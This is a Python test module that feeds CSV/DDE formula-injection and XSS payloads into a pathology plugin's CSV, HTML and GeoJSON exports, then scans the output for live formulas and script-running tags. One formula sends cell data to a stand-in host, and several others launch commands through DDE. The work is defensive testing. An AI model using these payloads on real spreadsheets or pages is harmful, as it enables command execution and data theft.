"""Names that would be formulas or scripts, through every format that we write."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

from torture.plan import Plan
from torture.row import Row

__all__ = ["FORMULAS", "SCRIPTS", "live_formulas", "live_tags", "try_exports"]

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "\t=1+1",
    "'=1+1",
    "＝1+1",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "'onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "&lt;script&gt;",
)
_DANGER = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "link", "form", "base", "meta http-equiv"}
)


def try_exports(plan: Plan) -> Row:
    """Write results, tables and pages whose names are formulas and scripts."""
    from napari_dre_slcl.export.geojson import write_geojson
    from napari_dre_slcl.export.look import look_of
    from napari_dre_slcl.export.slide_report import write_slide_report
    from napari_dre_slcl.export.tile_table import write_csv
    from napari_dre_slcl.results import load_result
    from torture.strangers.honest import make_result

    folder = plan.folder / "exports"
    folder.mkdir(parents=True)
    result = load_result(make_result(folder))
    wrong: list[str] = []
    tried = 0
    for number, text in enumerate((*FORMULAS, *SCRIPTS)):
        named = replace(
            result,
            slide_id=text,
            slide_path=text,
            codeword_names=(text, "stroma"),
            provenance={"method": text, text: "x"},
            predictions=tuple(
                replace(one, task=text, classes=(text, "other"), positive=None)
                for one in result.predictions
            ),
            evidence=None,
            evidence_of=(),
        )
        look = look_of(named)
        table = write_csv(named, look, folder / f"{number}.csv")
        wrong += [f"formula in {table.name}: {cell}" for cell in live_formulas(table)]
        page = write_slide_report(named, look, None, folder / f"{number}.html", has_names=True)
        wrong += [f"{tag} in {page.name}" for tag in live_tags(page.read_text("utf-8"))]
        places = write_geojson(named, look, folder / f"{number}.geojson")
        json.loads(places.read_text("utf-8"))
        wrong += _tables(folder / f"tables-{number}", text)
        tried += 4
    note = "; ".join(wrong[:3]) or "CSV, HTML and GeoJSON of names that are formulas or scripts"
    return Row(
        "names as formulas and scripts", tried, tried - len(wrong), len(wrong), plan.seed, note
    )


def _tables(folder: Path, text: str) -> Iterator[str]:
    """Write a cohort and read it again: it must be the same, and no cell of the file live."""
    from napari_dre_slcl.cohort.sheet import new_sheet, read_sheet
    from napari_dre_slcl.cohort.write_sheet import write_sheet

    folder.mkdir()
    row = {"slide_id": "a", "patient_id": "P1", "subtype": text}
    sheet = new_sheet(folder / "a.csv", tuple(row), [row])
    number = sheet.numbers[0]
    written = write_sheet(sheet, folder / "b.csv")
    yield from (f"formula in {written.name}: {cell}" for cell in live_formulas(written))
    if read_sheet(written).cell(number, 2).strip() != sheet.cell(number, 2).strip():
        yield f"{text!r} came back as another"


def live_formulas(path: Path) -> Iterator[str]:
    """Yield cells of a CSV file that a spreadsheet would compute."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream):
            for cell in row:
                if cell.startswith(_DANGER) and not _is_number(cell):
                    yield cell[:40]


def live_tags(page: str) -> Iterator[str]:
    """Yield tags and attributes of a page that would run a script."""
    found: list[str] = []

    class Look(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in _TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                    found.append(f"<{tag} {name}>")

    Look().feed(page)
    yield from found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.strip("+-") == ""
    return True
